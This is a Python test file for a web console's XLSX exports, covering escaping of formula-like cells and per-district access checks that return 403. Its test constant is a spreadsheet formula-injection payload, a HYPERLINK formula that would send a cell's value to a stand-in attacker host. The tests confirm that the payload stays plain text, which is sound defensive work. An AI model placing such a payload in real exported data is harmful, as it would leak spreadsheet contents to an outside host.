"""Every console table exports to XLSX, no text cell reaches Excel as a formula, and a
district coordinator gets 403 on another district's tables."""

from __future__ import annotations

import io
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session, col, select

from bot.planimport.tabular import read_template
from bot.web.tables import rows_xlsx
from kernel.clock import FixedClock
from storage.models import Assignment, ProgressUpdate
from tests.web.conftest import Client, Tree, sign_in
from tests.web.test_console_views import upload_form

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"xem")'


def _sheet_rows(data: bytes) -> list[tuple[object, ...]]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return list(sheet.iter_rows(values_only=True))


def test_a_table_cell_that_looks_like_a_formula_stays_text() -> None:
    data = rows_xlsx("t", ["Ghi chú"], [[FORMULA], ["bình thường\x07"]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cell = sheet["A2"]
    assert cell.value == FORMULA and cell.data_type == "s"
    assert sheet["A3"].value == "bình thường"  # the control character XML cannot hold is gone


def _blocked_assignment(engine: Engine, tree: Tree, clock: FixedClock) -> tuple[int, int]:
    with Session(engine) as session:
        assignment = session.exec(
            select(Assignment).where(col(Assignment.unit_id) == tree.commune_a.id)
        ).first()
        assert assignment is not None and assignment.id is not None
        assignment.status, assignment.note = "blocked", FORMULA
        assignment.last_update_at = clock.now()
        session.add(assignment)
        session.add(
            ProgressUpdate(
                assignment_id=assignment.id,
                official_id=tree.official.id,
                status="blocked",
                note=FORMULA,
                created_at=clock.now(),
            )
        )
        session.commit()
        return assignment.task_id, assignment.id


async def test_the_task_and_assignment_tables_export_without_formulas(
    client: Client, engine: Engine, clock: FixedClock, tree: Tree
) -> None:
    task_id, assignment_id = _blocked_assignment(engine, tree, clock)
    await sign_in(client, engine, clock, tree.coordinator)
    page = await client.get(f"/units/{tree.province.id}/tasks/{task_id}")
    assert "?format=xlsx" in await page.text()
    task_file = await client.get(f"/units/{tree.province.id}/tasks/{task_id}?format=xlsx")
    assert task_file.status == 200
    data = await task_file.read()
    rows = _sheet_rows(data)
    assert rows[0][0] == "Đơn vị"
    line = next(row for row in rows[1:] if row[0] == tree.commune_a.name)
    assert line[1] == "Vướng mắc" and line[3] == FORMULA
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    updates = await client.get(f"/assignments/{assignment_id}?format=xlsx")
    assert updates.status == 200
    assert [row[4] for row in _sheet_rows(await updates.read())[1:]] == [FORMULA]
    blocked = await client.get(f"/units/{tree.province.id}/table/blocked.xlsx?period=2026")
    assert FORMULA in [row[2] for row in _sheet_rows(await blocked.read())[1:]]


async def test_another_districts_tables_are_403(
    client: Client, engine: Engine, clock: FixedClock, tree: Tree
) -> None:
    task_id, assignment_id = _blocked_assignment(engine, tree, clock)
    await sign_in(client, engine, clock, tree.district_coordinator)
    mine = await client.get(f"/units/{tree.district_a.id}/tasks/{task_id}?format=xlsx")
    assert mine.status == 200
    b = tree.district_b.id
    for path in (
        f"/units/{b}/tasks/{task_id}?format=xlsx",
        f"/units/{b}/table/blocked.xlsx",
        f"/units/{tree.province.id}/table/units.xlsx",
    ):
        assert (await client.get(path)).status == 403, path
    with Session(engine) as session:
        other = session.exec(
            select(Assignment).where(col(Assignment.unit_id) == tree.commune_b.id)
        ).first()
        assert other is not None
    assert (await client.get(f"/assignments/{other.id}?format=xlsx")).status == 403
    assert (await client.get(f"/assignments/{assignment_id}?format=xlsx")).status == 200


async def test_the_plans_list_and_the_review_table_export(
    client: Client, engine: Engine, clock: FixedClock, tree: Tree, tmp_path: Path
) -> None:
    token = await sign_in(client, engine, clock, tree.admin)
    plans = await client.get("/plans?format=xlsx")
    rows = _sheet_rows(await plans.read())
    assert rows[0][0] == "Tiêu đề" and len(rows) == 2  # the conftest's plan
    csv = "STT,Nhiệm vụ,Cơ quan chủ trì\n1,=1+1 công khai thủ tục,Sở Nội vụ\n".encode()
    review = await client.post("/plans/upload", data=upload_form(token, "kh.csv", csv))
    path = str(review.url.path)
    exported = await client.get(path + "?format=xlsx")
    assert exported.status == 200
    saved = tmp_path / "review.xlsx"
    saved.write_bytes(await exported.read())
    reread = read_template(saved)  # what `import-plan --review-out` writes, read back
    assert reread.tasks[0].text == "=1+1 công khai thủ tục" and reread.tasks[0].lead == [
        "Sở Nội vụ"
    ]
    client.session.cookie_jar.clear()
    await sign_in(client, engine, clock, tree.district_coordinator)
    assert (await client.get("/plans?format=xlsx")).status == 403
    assert (await client.get(path + "?format=xlsx")).status == 403
